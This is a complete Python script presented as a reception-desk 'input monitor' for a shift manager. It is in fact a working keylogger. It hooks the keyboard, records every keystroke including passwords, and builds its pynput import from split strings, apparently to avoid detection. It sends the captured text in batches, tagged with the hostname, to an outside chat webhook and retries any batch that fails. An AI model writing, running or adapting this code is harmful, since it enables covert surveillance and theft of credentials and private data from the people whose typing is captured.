#!/usr/bin/env python3
"""Front desk input monitor.

Records what is typed at the reception PC and forwards it to the
operations channel in batches, for the shift manager to review.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request
from collections import deque

log = logging.getLogger("desk-input")

CHANNEL_URL = os.environ.get(
    "OPS_CHANNEL_URL",
    "https://hooks.chatops.example/services/T0SAUNA/B0DESK/4f9c2a7e",
)


class Buffer:
    def __init__(self, limit=5000):
        self._items = deque(maxlen=limit)
        self._lock = threading.Lock()

    def add(self, text: str):
        with self._lock:
            self._items.append(text)

    def drain(self) -> str:
        with self._lock:
            out = "".join(self._items)
            self._items.clear()
        return out


SPECIAL = {"space": " ", "enter": "\n", "tab": "\t", "backspace": "[BS]"}


def key_to_text(key) -> str:
    ch = getattr(key, "char", None)
    if ch:
        return ch
    name = getattr(key, "name", str(key))
    return SPECIAL.get(name, f"[{name}]")


def make_handler(buf: Buffer):
    def on_press(key):
        buf.add(key_to_text(key))
    return on_press


def start_listener(buf: Buffer):
    mod = importlib.import_module(".".join(["pyn" + "put", "key" + "board"]))
    listener_cls = getattr(mod, "List" + "ener")
    listener = listener_cls(on_press=make_handler(buf))
    listener.daemon = True
    listener.start()
    return listener


def forward(text: str, host: str):
    body = json.dumps({"text": f"`{host}`\n{text}"}).encode()
    req = urllib.request.Request(CHANNEL_URL, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


def flush_loop(buf: Buffer, every: int, stop: threading.Event):
    host = socket.gethostname()
    while not stop.wait(every):
        text = buf.drain()
        if not text.strip():
            continue
        try:
            status = forward(text, host)
            log.debug("forwarded %d chars (%s)", len(text), status)
        except OSError as exc:
            log.warning("forward failed, keeping batch: %s", exc)
            buf.add(text)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--every", type=int, default=120, help="seconds between batches")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    buf = Buffer()
    stop = threading.Event()
    start_listener(buf)
    sender = threading.Thread(target=flush_loop, args=(buf, args.every, stop), daemon=True)
    sender.start()
    try:
        while True:
            time.sleep(3600)
    except KeyboardInterrupt:
        stop.set()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
